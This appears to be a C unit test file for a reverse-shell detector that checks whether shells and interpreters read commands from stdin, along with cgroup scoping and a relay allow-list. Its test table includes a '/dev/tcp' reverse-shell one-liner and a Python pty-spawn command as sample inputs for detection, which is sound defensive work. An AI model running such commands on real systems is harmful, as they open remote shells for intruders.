// SPDX-License-Identifier: GPL-2.0-only
/*
 * Unit tests for the reverse-shell finder (revshell.c): its argv rule (does
 * a shell or interpreter run with this argv read its commands from stdin?
 * table-driven, every failing row reported), and its cgroup scope on a fake
 * cgroup2 tree (a temp dir: the ids are its inodes) and a fake /proc.
 */
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <setjmp.h>
#include <cmocka.h>

#include <stdbool.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

#include "ircontain/abi.h"

#include "revshell.h"

#define ARRAY_LEN(a)	(sizeof(a) / sizeof((a)[0]))

struct row {
	int kind;
	const char *argv;	/* words separated by '|' */
	bool stdin_commands;
};

static const struct row rows[] = {
	/* shells: no operand, -i, -s: commands from stdin */
	{ IRC_RSH_SHELL, "bash", true },
	{ IRC_RSH_SHELL, "/bin/sh|-i", true },
	{ IRC_RSH_SHELL, "bash|-li", true },
	{ IRC_RSH_SHELL, "bash|--login", true },
	{ IRC_RSH_SHELL, "-bash", true },			/* a login shell's argv[0] */
	{ IRC_RSH_SHELL, "bash|--norc|--noprofile", true },
	{ IRC_RSH_SHELL, "bash|--rcfile|/x/rc", true },		/* the option's value is no script */
	{ IRC_RSH_SHELL, "bash|-o|vi", true },
	{ IRC_RSH_SHELL, "bash|-s|arg1|arg2", true },
	{ IRC_RSH_SHELL, "bash|-e", true },			/* errexit, not a program */
	{ IRC_RSH_SHELL, "sh|-", true },
	{ IRC_RSH_SHELL, "bash|--", true },			/* "--" and nothing after: stdin */
	/* shells: a -c string or a script file */
	{ IRC_RSH_SHELL, "bash|-c|bash -i >& /dev/tcp/h/1 0>&1", false },
	{ IRC_RSH_SHELL, "bash|-ic|id", false },		/* -i with -c runs the string */
	{ IRC_RSH_SHELL, "sh|-ec|id", false },
	{ IRC_RSH_SHELL, "bash|script.sh", false },
	{ IRC_RSH_SHELL, "bash|-e|/tmp/job.sh", false },	/* GitHub Actions, Jenkins */
	{ IRC_RSH_SHELL, "bash|--noprofile|--norc|-eo|pipefail|/tmp/s.sh", false },
	{ IRC_RSH_SHELL, "bash|--|script.sh", false },
	{ IRC_RSH_SHELL, "bash|-i|script.sh", true },		/* forced interactive */
	{ IRC_RSH_SHELL, "bash|-s|script-arg", true },
	/* interpreters */
	{ IRC_RSH_INTERP, "python3", true },
	{ IRC_RSH_INTERP, "python3|-i", true },
	{ IRC_RSH_INTERP, "python3|-", true },
	{ IRC_RSH_INTERP, "python3|-u", true },
	{ IRC_RSH_INTERP, "python3|-c|import pty; pty.spawn('/bin/bash')", false },
	{ IRC_RSH_INTERP, "python3|-m|http.server", false },
	{ IRC_RSH_INTERP, "python3|-W|ignore|app.py", false },
	{ IRC_RSH_INTERP, "python3|-W|ignore", true },		/* the option's value is no script */
	{ IRC_RSH_INTERP, "python3|app.py", false },
	{ IRC_RSH_INTERP, "perl|-e|print 1", false },
	{ IRC_RSH_INTERP, "perl|-we|print 1", false },
	{ IRC_RSH_INTERP, "perl", true },
	{ IRC_RSH_INTERP, "ruby|-e|puts 1", false },
	{ IRC_RSH_INTERP, "php|-r|echo 1;", false },
	{ IRC_RSH_INTERP, "node|-e|1", false },
	{ IRC_RSH_INTERP, "node|-p|1", false },
	{ IRC_RSH_INTERP, "node", true },
	{ IRC_RSH_INTERP, "lua|-i", true },
};

/* "a|b|c" -> "a\0b\0c\0", as the kernel gives argv. */
static size_t to_args(const char *s, char *buf, size_t len)
{
	size_t n = strlen(s) + 1, i;

	assert_true(n <= len);
	memcpy(buf, s, n);
	for (i = 0; i < n; i++)
		if (buf[i] == '|')
			buf[i] = '\0';
	return n;
}

static void test_stdin_commands_table(void **state)
{
	char buf[512];
	size_t i, n;
	int bad = 0;

	(void)state;
	for (i = 0; i < ARRAY_LEN(rows); i++) {
		bool want = rows[i].stdin_commands, got;

		n = to_args(rows[i].argv, buf, sizeof(buf));
		got = irc_rsh_stdin_commands(rows[i].kind, buf, n);
		if (got != want) {
			fprintf(stderr, "row %zu (%s): got %d, want %d\n", i, rows[i].argv, got, want);
			bad++;
		}
	}
	assert_int_equal(bad, 0);
}

/* argv as the kernel may cut it (IRC_ARGS_LEN): no read past the end. */
static void test_truncated_args(void **state)
{
	char buf[8] = { 'b', 'a', 's', 'h', 0, '-', 'c', 'x' };

	(void)state;
	/* "-cx" without its NUL: still a -c, read within the 8 bytes. */
	assert_false(irc_rsh_stdin_commands(IRC_RSH_SHELL, buf, sizeof(buf)));
	assert_true(irc_rsh_stdin_commands(IRC_RSH_SHELL, buf, 5));
	assert_true(irc_rsh_stdin_commands(IRC_RSH_SHELL, buf, 0));
}

static char cg_root[32], proc_root[32];

static void put_cgroup(const char *rel)
{
	char path[128];
	FILE *f;

	snprintf(path, sizeof(path), "%s/4242/cgroup", proc_root);
	f = fopen(path, "w");
	assert_non_null(f);
	fprintf(f, "0::%s\n", rel);
	fclose(f);
}

static uint64_t cg_mkdir(const char *rel)
{
	char path[128];
	struct stat st;

	snprintf(path, sizeof(path), "%s%s", cg_root, rel);
	assert_int_equal(mkdir(path, 0755), 0);
	assert_int_equal(stat(path, &st), 0);
	return st.st_ino;
}

/* The fake cgroup2 tree and /proc, empty (scope_teardown() removes them). */
static void fake_trees(void)
{
	snprintf(cg_root, sizeof(cg_root), "/tmp/irc-rsh-cg.XXXXXX");
	snprintf(proc_root, sizeof(proc_root), "/tmp/irc-rsh-proc.XXXXXX");
	assert_non_null(mkdtemp(cg_root));
	assert_non_null(mkdtemp(proc_root));
}

/*
 * A process moved out of the scope after its exec, read before the next
 * exec in the cgroup it left: that cgroup's verdict is not taken from
 * where the process is now.  The old code kept "out of scope" for the
 * exec's cgroup, and the next exec there was never looked at.
 */
static void test_scope_moved(void **state)
{
	struct irc_ev_exec ev = { .h.tgid = 4242 };
	struct irc_rsh_hit hit;
	struct irc_rsh *r;
	char path[128];

	(void)state;
	fake_trees();
	snprintf(path, sizeof(path), "%s/4242", proc_root);
	assert_int_equal(mkdir(path, 0755), 0);
	cg_mkdir("/scope");
	ev.h.cgroup_id = cg_mkdir("/scope/a");
	cg_mkdir("/other");
	assert_int_equal(irc_rsh_open(&r, proc_root, cg_root, "/scope"), 0);

	/* The exec was in /scope/a; the process is in /other by now. */
	put_cgroup("/other");
	irc_rsh_exec(r, &ev, &hit);
	assert_int_equal(irc_rsh_stats(r)->in_scope, 0);
	/* The next exec in /scope/a, its process still there. */
	put_cgroup("/scope/a");
	irc_rsh_exec(r, &ev, &hit);
	assert_int_equal(irc_rsh_stats(r)->in_scope, 1);
	/* That verdict was proved for the id, and is kept for it. */
	put_cgroup("/other");
	irc_rsh_exec(r, &ev, &hit);
	assert_int_equal(irc_rsh_stats(r)->in_scope, 2);
	irc_rsh_close(r);
}

/*
 * The allowed relays (irc_rsh_allow / irc_rsh_allowed): exact paths and
 * prefixes ending in '*', empty slots skipped, and a new list replacing
 * the old one whole (the controller re-checks a hit with the kernel's
 * current list before acting on it, so a relay allowed by a policy
 * applied since the finder's last read is let go).
 */
static void test_allowed(void **state)
{
	static const char first[3][IRC_RSH_PATH_LEN] = { "/opt/agent/bin/agent", "", "/usr/lib/ci/*" };
	static const char second[1][IRC_RSH_PATH_LEN] = { "/usr/sbin/sshd" };
	struct irc_rsh *r;

	(void)state;
	fake_trees();
	assert_int_equal(irc_rsh_open(&r, proc_root, cg_root, ""), 0);
	assert_false(irc_rsh_allowed(r, "/opt/agent/bin/agent"));
	irc_rsh_allow(r, first, 3);
	assert_true(irc_rsh_allowed(r, "/opt/agent/bin/agent"));
	assert_false(irc_rsh_allowed(r, "/opt/agent/bin/agent2"));
	assert_false(irc_rsh_allowed(r, "/opt/agent/bin/agen"));
	assert_true(irc_rsh_allowed(r, "/usr/lib/ci/runner"));
	assert_false(irc_rsh_allowed(r, "/usr/lib/cix"));
	assert_false(irc_rsh_allowed(r, ""));
	irc_rsh_allow(r, second, 1);
	assert_false(irc_rsh_allowed(r, "/opt/agent/bin/agent"));
	assert_false(irc_rsh_allowed(r, "/usr/lib/ci/runner"));
	assert_true(irc_rsh_allowed(r, "/usr/sbin/sshd"));
	irc_rsh_close(r);
}

/* The fake trees go on every exit of the test, a failed check's too. */
static int scope_teardown(void **state)
{
	char cmd[128];

	(void)state;
	snprintf(cmd, sizeof(cmd), "rm -rf '%s' '%s'", cg_root, proc_root);
	return system(cmd) ? -1 : 0;
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(test_stdin_commands_table),
		cmocka_unit_test(test_truncated_args),
		cmocka_unit_test_teardown(test_scope_moved, scope_teardown),
		cmocka_unit_test_teardown(test_allowed, scope_teardown),
	};

	return cmocka_run_group_tests(tests, NULL, NULL);
}
